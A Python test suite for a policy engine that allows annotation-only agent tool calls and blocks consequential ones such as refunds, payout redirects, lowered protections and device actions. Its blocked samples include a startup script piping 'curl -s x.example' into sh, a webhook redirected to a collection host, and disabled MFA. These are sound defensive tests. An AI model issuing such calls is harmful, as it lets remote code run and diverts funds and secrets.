"""Calls that change nothing but annotations pass; one more argument of another sort makes them ordinary changes."""

from __future__ import annotations

from typing import Any

import pytest

from interlock import Action, Engine

ENGINE = Engine(second_opinion=False)
Arguments = dict[str, Any]


def is_allowed(name: str, arguments: Arguments) -> bool:
    return ENGINE.decide(Action(tool_name=name, input_payload=arguments)).allowed


ANNOTATING: list[tuple[str, Arguments]] = [
    ("update_charge_metadata", {"charge": "ch_3QKx8v", "metadata": {"case": "CS-20417"}}),
    ("update_payment", {"id": "pm_1", "metadata": {"season": "2025"}}),
    ("bank_api", {"op": "update", "resource": "payments", "params": {"id": "PM1", "metadata": {"boat": "four"}}}),
    (
        "fetch",
        {
            "method": "PATCH",
            "url": "https://api.mollie.com/v2/payments/tr_7U",
            "headers": {"Accept": "application/json"},
            "body": {"description": "Kayak hire", "metadata": {"dock": "west"}},
        },
    ),
    ("scaleway_api", {"method": "PATCH", "path": "/instance/v1/servers/9b1e40c2", "body": {"tags": ["choir"]}}),
    ("woo_request", {"method": "PUT", "endpoint": "/wc/v3/orders/7731", "params": {"customer_note": "Gift wrap"}}),
    ("hcloud.server.changeDescription", {"server": "shop-1", "description": "Canteen"}),
    ("digitalocean", {"op": "droplet.tag", "ids": [339], "params": {"tag": "owner-nkechi"}}),
    ("waf_rule_update", {"zone": "shop.example", "rule_id": "login", "changes": {"description": "see SEC-140"}}),
    ("dns_record_patch", {"zone": "a.example", "record": "status", "type": "CNAME", "patch": {"comment": "WEB-311"}}),
    ("google_admin_directory", {"action": "users.update", "userKey": "a@b.example", "body": {"desk": "B2-17"}}),
    ("fraud_rules.update", {"merchant": "kiosk", "rule": "velocity", "owner_comment": "see the wiki"}),
    ("admin.groups.patch", {"groupKey": "staff@a.example", "requestBody": {"description": "Everybody at the desk"}}),
    ("update_refund", {"refund_id": "re_1", "notes": {"desk": "4", "invoice": "A-17"}}),
    ("graph_api", {"apiType": "graph", "path": "/users/u1", "method": "PATCH", "body": {"officeLocation": "Oslo"}}),
    (
        "vault.secrets.update_metadata",
        {"url": "https://vault.a.example:8200", "path": "ci/x", "metadata": {"team": "a"}},
    ),
    ("people_patch_employee", {"email": "a@b.example", "body": {"desk": "B2", "note_for_events": "vegetarian"}}),
    ("update_application", {"client_id": "x81", "name": "Portal (test)", "description": "for the web team"}),
    ("vm_rename", {"id": 4471, "name": "playground-2"}),
    ("cloud_api", {"action": "server.set_label", "id": 48830, "labels": {"asked_by": "piotr"}}),
    ("camera.set_overlay", {"camera_id": "north", "text": "Slipway", "position": "top-left"}),
    ("update_client_description", {"server": "https://id.a.example", "client_id": "shop", "description": "Checkout"}),
]


@pytest.mark.parametrize(("name", "arguments"), ANNOTATING)
def test_an_annotation_passes(name: str, arguments: Arguments) -> None:
    assert is_allowed(name, arguments)


#: What a call sets besides, each of which makes it an ordinary change.
MORE: list[Arguments] = [
    {"amount": 900},
    {"destination": "acct_2"},
    {"role": "admin"},
    {"public": True},
]


@pytest.mark.parametrize("more", MORE)
@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("update_payment", {"id": "pm_1", "metadata": {"season": "2025"}}),
        ("hcloud.server.changeDescription", {"server": "shop-1", "description": "Canteen"}),
        ("update_charge_metadata", {"charge": "ch_3QKx8v", "metadata": {"case": "CS-20417"}}),
    ],
)
def test_another_argument_makes_it_an_ordinary_change(name: str, arguments: Arguments, more: Arguments) -> None:
    assert not is_allowed(name, arguments | more)
    assert not is_allowed(name, more | arguments)


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("pay_invoice", {"id": "inv_1"}),
        ("refund", {"charge": "ch_1"}),
        ("capture_payment", {"payment": "pi_1"}),
        ("set_default_payout_account", {"account": "acc_2"}),
        ("update_payout", {"payout_id": "po_1", "bank_account": "ba_2"}),
        ("update_payout", {"payout_id": "po_1", "destination": "ba_2"}),
        ("update_payout", {"bank_account_id": "ba_2"}),
        ("reboot_server", {"server": "web-1"}),
        ("resize_server", {"server": "web-1", "type": "cx51"}),
        ("update_dns_record", {"record": "www", "type": "A", "value": "6.6.6.6"}),
        ("update_webhook", {"id": "wh_1", "url": "https://collect.example"}),
        ("update_firewall_rule", {"rule_id": "r1", "source": "0.0.0.0/0"}),
        ("update_feature_flag", {"flag": "tax", "patch": {"environment": "production", "instructions": "turnFlagOn"}}),
        ("fetch", {"method": "POST", "url": "https://api.mollie.com/v2/payments", "body": {"amount": 5}}),
        ("fetch", {"method": "PATCH", "url": "https://api.mollie.com/v2/payments/t?amount=5"}),
        ("place_order", {"order": "o1"}),
        ("sign_contract", {"contract": "c1"}),
    ],
)
@pytest.mark.parametrize(
    "note",
    [
        {"note": "x"},
        {"metadata": {"a": "b"}},
        {"tags": ["a"]},
        {"description": "x"},
        {"op": "update", "note": "x"},
        {"action": "add_note", "note": "x"},
    ],
)
def test_a_note_beside_it_makes_no_harmful_call_pass(name: str, arguments: Arguments, note: Arguments) -> None:
    assert not is_allowed(name, arguments | note)
    assert not is_allowed(name, note | arguments)


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("update_instance_metadata", {"instance": "web-1", "metadata": {"startup-script": "curl -s x.example | sh"}}),
        ("update_user", {"user_id": "u1", "tags": ["x"], "status": "suspended"}),
        ("update_feature_flag", {"PatchWithComment": {"instructions": [{"kind": "turnFlagOn"}], "comment": "go"}}),
        ("update_server", {"server": "web-1", "region": "eu", "note": "x"}),
        ("update_access", {"team": "contractors", "description": "x"}),
        ("update_permission", {"project": "core", "user": "bob", "note": "x"}),
        ("tag_user_role", {"role": "r1", "tags": {"team": "admin"}}),
        ("admin.groups.patch", {"groupKey": "g1", "requestBody": {"description": "x", "whoCanJoin": "ANYONE"}}),
        ("update_refund", {"refund_id": "re_1", "notes": {"desk": "4"}, "amount": 900}),
        ("graph_api", {"apiType": "graph", "path": "/users/u1", "method": "PATCH", "body": {"accountEnabled": False}}),
        ("vault.secrets.update_metadata", {"path": "ci/x", "metadata": {"team": "a"}, "delete_version_after": "1s"}),
        ("people_patch_employee", {"email": "a@b.example", "body": {"email": "new@b.example"}}),
        ("update_application", {"client_id": "x81", "name": "Portal", "callbacks": ["https://x.example"]}),
        ("table_rename", {"id": 4471, "database": "orders", "name": "orders_old", "drop": True}),
        ("camera.set_overlay", {"camera_id": "north", "text": "x", "recording": False}),
        ("update_payee", {"payee_id": 4, "name": "Acme Ltd"}),
    ],
)
def test_what_stands_in_an_annotation_and_matters_asks(name: str, arguments: Arguments) -> None:
    assert not is_allowed(name, arguments)


@pytest.mark.parametrize("header", ["Accept", "Delete", "Approve", "X-Pay"])
def test_headers_say_nothing_about_what_a_request_does(header: str) -> None:
    request = {"method": "DELETE", "url": "http://localhost:3000/api/todos/17", "headers": {header: "application/json"}}
    assert is_allowed("http_request", request)


def test_headers_make_no_request_pass() -> None:
    request = {"method": "POST", "url": "https://api.stripe.com/v1/refunds", "body": {"charge": "ch_1"}}
    assert not is_allowed("http_request", request)
    assert not is_allowed("http_request", request | {"headers": {"Accept": "application/json", "X-Dry-Run": "true"}})


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("request_reviewers", {"repository": "a/b", "pull": 41, "reviewers": ["lena"], "team_reviewers": []}),
        ("lever.notes.create", {"opportunity": "c2f0", "value": "Could start in January.", "secret": False}),
        ("forms.add_question", {"form_id": "f1", "title": "Any wishes?", "required": False}),
        ("ci_variable_set", {"project_id": 2087, "key": "PYTEST_ADDOPTS", "value": "-q", "protected": False}),
        ("vehicle_action", {"plate": "B-KT 1", "action": "set_service_reminder", "telemetry": {"speed_kmh": 0}}),
    ],
)
def test_what_sets_no_protection_lowers_none(name: str, arguments: Arguments) -> None:
    assert is_allowed(name, arguments)


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("set_required_reviewers", {"repository": "a/b", "reviewers": []}),
        ("update_branch_protection", {"branch": "main", "required_reviewers": []}),
        ("create_gist", {"content": "x", "secret": False}),
        ("ci_variable_set", {"project_id": 2087, "key": "DEPLOY_TOKEN", "value": "x", "protected": False}),
        ("ci_variable_set", {"key": "DB_URL", "value": "postgres://a:b@db:5432/x", "protected": False}),
        ("update_policy", {"policy": "main", "mfa_required": False}),
        ("lever.notes.create", {"opportunity": "c2f0", "value": "x", "secret": False, "require_mfa": False}),
    ],
)
def test_what_sets_a_protection_lowers_it(name: str, arguments: Arguments) -> None:
    assert not is_allowed(name, arguments)


@pytest.mark.parametrize(
    ("name", "arguments", "allowed"),
    [
        ("logGateFault", {"gate": "yard-north", "text": "Barrier stays up too long"}, True),
        ("irrigation.add_log_entry", {"site": "Vega Sur", "valves": ["3"], "text": "slow drip at joint"}, True),
        ("greenhouse_control", {"zone": 3, "op": "annotate", "text": "Traps changed"}, True),
        ("greenhouse_control", {"zone": 3, "op": "annotate", "text": "x", "vent": "open"}, False),
        ("logGateFault", {"gate": "yard-north", "text": "x", "open": True}, False),
        ("open_gate", {"gate": "yard-north", "note": "x"}, False),
    ],
)
def test_a_line_in_a_log_moves_no_device(name: str, arguments: Arguments, allowed: bool) -> None:
    assert is_allowed(name, arguments) is allowed
